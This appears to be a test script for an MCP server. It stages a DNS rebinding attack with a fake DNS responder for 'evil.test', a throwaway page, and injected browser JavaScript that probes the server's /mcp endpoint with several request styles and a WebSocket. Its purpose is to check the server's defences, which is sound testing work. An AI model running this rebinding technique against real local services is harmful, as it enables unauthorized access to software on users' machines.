"""Run in a network of its own: a page of evil.test whose name comes to lead to the MCP server's address; prints what the page was answered.

Arguments: the server's folder, a profile's folder, the server's command.
"""

import http.server
import json
import socket
import socketserver
import subprocess
import sys
import threading
import time
from pathlib import Path

from tests.browser import browser

PORT = 8765
NAME = b"\4evil\4test\0"
ASK = json.dumps({"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {"protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "x", "version": "1"}}})  # fmt: skip
BY_PAGE = [204, ""]
ATTACK = """
const [ask, origin, done] = arguments;
const accept = {"Accept": "application/json, text/event-stream"};
const json = {...accept, "Content-Type": "application/json"};
const ways = {
  asked: {method: "POST", headers: json, body: ask},
  guessed: {method: "POST", headers: {...json, "Authorization": "Bearer x"}, body: ask},
  simple: {method: "POST", headers: {"Content-Type": "text/plain"}, body: ask},
  streamed: {headers: accept},
  ended: {method: "DELETE"},
  unread: {method: "POST", mode: "no-cors", body: ask},
};
const one = way => fetch(origin + "/mcp", way).then(async r => r.type == "opaque" ? "opaque" : [r.status, await r.text()], e => e.name);
const socket = new Promise(end => { const s = new WebSocket(origin.replace("http", "ws") + "/mcp"); s.onopen = () => end("open"); s.onerror = () => end("closed"); });
(async () => { const said = {}; for (const name in ways) said[name] = await one(ways[name]); said.socket = await socket; done(said); })();
"""


class Names(socketserver.BaseRequestHandler):
    """Tells that evil.test has two addresses: the page's, and the server's."""

    addresses = (b"\x7f\0\0\2", b"\x7f\0\0\1")

    def handle(self) -> None:
        """Answer one question."""
        data, sender = self.request
        end = data.index(b"\0", 12) + 5
        evil = NAME in data[:end] and data[end - 4 : end - 2] == b"\0\1"
        told = [b"\xc0\x0c\0\1\0\1\0\0\0\0\0\4" + one for one in self.addresses] if evil else []
        head = data[:2] + b"\x81\x80\0\1" + len(told).to_bytes(2, "big") + b"\0\0\0\0"
        sender.sendto(head + data[12:end] + b"".join(told), self.client_address)


class Page(http.server.BaseHTTPRequestHandler):
    """An empty page."""

    def do_GET(self) -> None:
        """Answer."""
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()

    def do_POST(self) -> None:
        """Answer a connection that was open before the name led elsewhere."""
        self.send_response(204)
        self.end_headers()

    def log_message(self, *_: object) -> None:
        """Say nothing."""


def main(folder: Path, profile: Path, command: list[str]) -> None:
    """Load the page, let its name lead elsewhere, attack."""
    server = subprocess.Popen([*command, "--port", str(PORT), "--root", str(folder)], stderr=subprocess.DEVNULL)
    names = socketserver.ThreadingUDPServer(("127.0.0.1", 53), Names)
    pages = http.server.ThreadingHTTPServer(("127.0.0.2", PORT), Page)
    for one in (names, pages):
        threading.Thread(target=one.serve_forever, daemon=True).start()
    try:
        while socket.socket().connect_ex(("127.0.0.1", PORT)):
            time.sleep(0.1)
        with browser(profile) as driver:
            driver.set_script_timeout(60)
            driver.get(f"http://evil.test:{PORT}/")
            pages.shutdown()
            pages.server_close()
            until = time.monotonic() + 100
            said: dict[str, object] = {}
            while said.get("asked", "TypeError") in ("TypeError", BY_PAGE) and time.monotonic() < until:
                said = driver.execute_async_script(ATTACK, ASK, f"http://evil.test:{PORT}")
            other = driver.execute_async_script(ATTACK, ASK, f"http://127.0.0.1:{PORT}")
        print(json.dumps({"rebound": said, "from elsewhere": other}))
    finally:
        server.terminate()
        server.wait(30)


if __name__ == "__main__":
    main(Path(sys.argv[1]), Path(sys.argv[2]), sys.argv[3:])
